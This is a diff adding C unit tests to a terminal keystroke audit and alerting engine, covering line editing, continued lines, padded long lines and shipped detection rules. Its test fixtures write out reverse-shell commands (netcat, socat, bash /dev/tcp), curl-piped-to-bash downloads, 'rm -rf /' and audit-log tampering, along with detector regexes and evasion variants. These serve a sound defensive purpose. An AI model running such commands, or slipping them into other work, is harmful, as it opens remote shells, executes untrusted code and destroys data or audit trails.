@@ -20,7 +20,7 @@ struct hits {
 	char rule[MAX_HITS][64];
 	char subject[MAX_HITS][TA_ALERT_LINE_MAX + 1];
 	uint64_t suppressed[MAX_HITS];
-	bool summary[MAX_HITS], cut[MAX_HITS], shared[MAX_HITS];
+	bool summary[MAX_HITS], cut[MAX_HITS], shared[MAX_HITS], uncertain[MAX_HITS];
 	uint32_t auid[MAX_HITS], ses[MAX_HITS];
 	char audit[MAX_HITS][4096];
 	char json[MAX_HITS][2048];
@@ -42,6 +42,7 @@ static void on_hit(void *ctx, const struct ta_alert_hit *h)
 	hs->suppressed[hs->n] = h->suppressed;
 	hs->summary[hs->n] = h->summary;
 	hs->cut[hs->n] = h->subject_cut;
+	hs->uncertain[hs->n] = h->subject_uncertain;
 	if (ta_alert_audit_format(hs->audit[hs->n], sizeof(hs->audit[0]), h) < 0)
 		hs->audit[hs->n][0] = '\0';
 	{
@@ -296,6 +297,141 @@ static void test_lines(void)
 		CHECK_EQ_STR(hs->subject[4], "rm -rf /");
 	}
 	ta_alert_engine_free(e);
+	free(hs);
+}
+
+/*
+ * Typed lines are edited as readline edits them: the line matched is the
+ * one the shell ran, and where the engine cannot follow (history, search,
+ * completion) the alert says so.
+ */
+static void test_line_editing(void)
+{
+	static const struct { const char *keys, *line; bool uncertain; } cases[] = {
+		{ "| h\x1b[Ds", "| sh", false },                  /* Left, then insert */
+		{ "| h\x1bODs", "| sh", false },                  /* Left in application mode */
+		{ "url x\x01" "c", "curl x", false },                /* ^A */
+		{ "url\x1b[Hc\x05 x", "curl x", false },          /* Home, ^E */
+		{ "abcd\x02\x02\x7fX", "aXcd", false },           /* ^B, backspace at the cursor */
+		{ "abc def\x17ghi", "abc ghi", false },           /* ^W */
+		{ "abc def\x01\x06\x06\x0b", "ab", false },       /* ^F, ^K */
+		{ "abc def\x1b[D\x1b[D\x1b[D\x15X", "Xdef", false },/* ^U kills before the cursor */
+		{ "abc\x1b[H\x1b[3~", "bc", false },              /* Delete */
+		{ "abc\x01\x04", "bc", false },                   /* ^D */
+		{ "ab\x1b[1~X\x1b[4~Y\x1b[C", "XabY", false },     /* Home, End (VT), Right at the end */
+		{ "ab\x14", "ba", false },                         /* ^T */
+		{ "\x1b[200~echo hi\x1b[201~", "echo hi", false },  /* bracketed paste */
+		{ "ls\x1b[A", "ls", true },                        /* history */
+		{ "ls\x12", "ls", true },                          /* ^R */
+		{ "ls /u\t", "ls /u ", true },                      /* completion */
+		{ "ls\x1b[1;5D", "ls", true },                     /* ^Left */
+		{ "a     b", "a b", false },                        /* blanks matched as one */
+	};
+	static const char rules[] = "rule = any\non = input\nline = .\nrate = 1000/1s\n";
+	struct hits *hs = calloc(1, sizeof(*hs));
+	struct ta_alert_engine *e;
+	char err[512];
+
+	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
+	ta_alert_engine_set_rules(e, parse(rules, err));
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		hs->n = 0;
+		feed(e, TA_EV_TTY_INPUT, cases[i].keys, 1, 10 + i);
+		feed(e, TA_EV_TTY_INPUT, "\r", 1, 10 + i);
+		CHECK_EQ_INT(hs->n, 1);
+		if (strcmp(hs->subject[0], cases[i].line))
+			fprintf(stderr, "case %zu: '%s', wanted '%s'\n", i, hs->subject[0],
+				cases[i].line);
+		CHECK_EQ_STR(hs->subject[0], cases[i].line);
+		CHECK_EQ_INT(hs->uncertain[0], cases[i].uncertain);
+	}
+	ta_alert_engine_free(e);
+	free(hs);
+}
+
+/*
+ * Lines a shell continues (`… |`, `… \\`, an open quote) are matched joined
+ * too; a rule fires once for the command, and ^C abandons it.
+ */
+static void test_line_joining(void)
+{
+	static const char rules[] = "rule = pipe\non = input\n"
+				    "line = curl[^|]*\\|[[:space:]]*(ba)?sh( |$)\nrate = 1000/1s\n";
+	struct hits *hs = calloc(1, sizeof(*hs));
+	struct ta_alert_engine *e;
+	char err[512];
+
+	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
+	ta_alert_engine_set_rules(e, parse(rules, err));
+	feed(e, TA_EV_TTY_INPUT, "false && curl http://192.0.2.2/b |\r", 1, 1);
+	CHECK_EQ_INT(hs->n, 0);
+	feed(e, TA_EV_TTY_INPUT, "bash\r", 1, 2);
+	CHECK_EQ_INT(hs->n, 1);
+	CHECK_EQ_STR(hs->subject[0], "false && curl http://192.0.2.2/b | bash");
+	/* the next command is no continuation */
+	feed(e, TA_EV_TTY_INPUT, "bash\r", 1, 3);
+	CHECK_EQ_INT(hs->n, 1);
+	/* a backslash is removed with the newline; && and || carry on; several lines */
+	feed(e, TA_EV_TTY_INPUT, "true ||\rtrue &&\rcu\\\rrl x |\\\r", 1, 4);
+	feed(e, TA_EV_TTY_INPUT, "s\\\rh\r", 1, 5);
+	CHECK_EQ_INT(hs->n, 2);
+	CHECK_EQ_STR(hs->subject[1], "true || true && curl x |sh");
+	/* an open quote goes on; a | in quotes or in a comment does not */
+	feed(e, TA_EV_TTY_INPUT, "curl 'x\r' | sh\r", 1, 6);
+	CHECK_EQ_INT(hs->n, 3);
+	feed(e, TA_EV_TTY_INPUT, "curl x '|'\rsh\r", 1, 7);
+	feed(e, TA_EV_TTY_INPUT, "curl x # |\rsh\r", 1, 8);
+	CHECK_EQ_INT(hs->n, 3);
+	/* matched on its own already: not again when joined */
+	feed(e, TA_EV_TTY_INPUT, "curl x | sh |\rcat\r", 1, 9);
+	CHECK_EQ_INT(hs->n, 4);
+	/* ^C abandons the command */
+	feed(e, TA_EV_TTY_INPUT, "curl x |\r\x03sh\r", 1, 10);
+	CHECK_EQ_INT(hs->n, 4);
+	ta_alert_engine_free(e);
+	free(hs);
+}
+
+/*
+ * A long typed line: blanks count once, the head and the latest tail are
+ * kept, and a cut line that no rule matched is an alert of its own.
+ */
+static void test_long_lines(void)
+{
+	static const char rules[] = "rule = pipe\non = input\n"
+				    "line = curl[^|]*\\|[[:space:]]*(ba)?sh( |$)\n";
+	struct hits *hs = calloc(1, sizeof(*hs));
+	struct ta_alert_engine *e;
+	char err[512], *big = malloc(3 * TA_ALERT_LINE_MAX);
+
+	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
+	ta_alert_engine_set_rules(e, parse(rules, err));
+	/* 1100 spaces before the command: matched, and not cut */
+	memset(big, ' ', 1100);
+	strcpy(big + 1100, "false && curl http://192.0.2.2/b | bash\r");
+	feed(e, TA_EV_TTY_INPUT, big, 1, 1);
+	CHECK_EQ_INT(hs->n, 1);
+	CHECK(!hs->cut[0]);
+	/* padding longer than the line: the tail is kept, matched, and the alert says cut */
+	memset(big, 'A', 2 * TA_ALERT_LINE_MAX);
+	strcpy(big + 2 * TA_ALERT_LINE_MAX, " ; curl http://192.0.2.2/b | bash\r");
+	big[0] = ':';
+	big[1] = ' ';
+	feed(e, TA_EV_TTY_INPUT, big, 1, 2);
+	CHECK_EQ_INT(hs->n, 2);
+	CHECK_EQ_STR(hs->rule[1], "pipe");
+	CHECK(hs->cut[1]);
+	/* padding on both sides of the command: no rule can match, the cut is an alert */
+	memset(big, 'A', 3 * TA_ALERT_LINE_MAX);
+	memcpy(big + TA_ALERT_LINE_MAX, "; curl ", 7);
+	strcpy(big + 3 * TA_ALERT_LINE_MAX - 10, " | bash\r");
+	feed(e, TA_EV_TTY_INPUT, big, 1, 3);
+	CHECK_EQ_INT(hs->n, 3);
+	CHECK_EQ_STR(hs->rule[2], "ttyaudit-line-cut");
+	CHECK(hs->cut[2]);
+	CHECK(strstr(hs->subject[2], "\xe2\x80\xa6") != NULL);
+	ta_alert_engine_free(e);
+	free(big);
 	free(hs);
 }
 
@@ -768,6 +904,23 @@ static void test_shipped(const char *path)
 		{ "nc -e /bin/sh 203.0.113.9 4444", NULL, NULL, "reverse-shell-netcat" },
 		{ "nc -l 4444", NULL, NULL, NULL },
 		{ "socat tcp:203.0.113.9:4444 exec:/bin/sh", NULL, NULL, "reverse-shell-socat" },
+		/* unless excuses only what line matched: a comment or another word does not */
+		{ "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 # /dev/tcp/localhost/", NULL, NULL,
+		  "reverse-shell-dev-tcp" },
+		{ "cat /dev/tcp/localhost/80; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", NULL, NULL,
+		  "reverse-shell-dev-tcp" },
+		{ "nc -e /bin/sh 203.0.113.9 4444 # 127.0.0.1", NULL, NULL, "reverse-shell-netcat" },
+		{ "nc -e /bin/sh 203.0.113.9 4444 127.0.0.1", NULL, NULL, "reverse-shell-netcat" },
+		{ "ncat 203.0.113.9 4444 -e /bin/sh; echo 127.0.0.1 1", NULL, NULL,
+		  "reverse-shell-netcat" },
+		{ "nc -e /bin/sh 127.0.0.1 4444", NULL, NULL, NULL },
+		{ "nc -e /bin/sh localhost 4444 ; ls", NULL, NULL, NULL },
+		/* continued on the next line, edited with the cursor, padded */
+		{ "false && curl http://192.0.2.2/b |\rbash", NULL, NULL, "download-to-shell" },
+		{ "false && curl http://192.0.2.2/b | h\x1b[Ds", NULL, NULL, "download-to-shell" },
+		{ "                                                                          "
+		  "                                         false && curl http://x/ | bash", NULL,
+		  NULL, "download-to-shell" },
 		{ NULL, "/usr/bin/chattr", "chattr -a /var/log/ttyaudit/x.seg", "log-append-only-cleared" },
 		{ NULL, "/usr/bin/chattr", "chattr +a /var/log/ttyaudit/x.seg", NULL },
 		{ NULL, "/bin/rm", "rm -rf /var/log/ttyaudit", "log-removed" },
@@ -863,6 +1016,9 @@ int main(int argc, char **argv)
 	test_errors();
 	test_file();
 	test_lines();
+	test_line_editing();
+	test_line_joining();
+	test_long_lines();
 	test_exec_and_session();
 	test_exec_exe();
 	test_footprint();
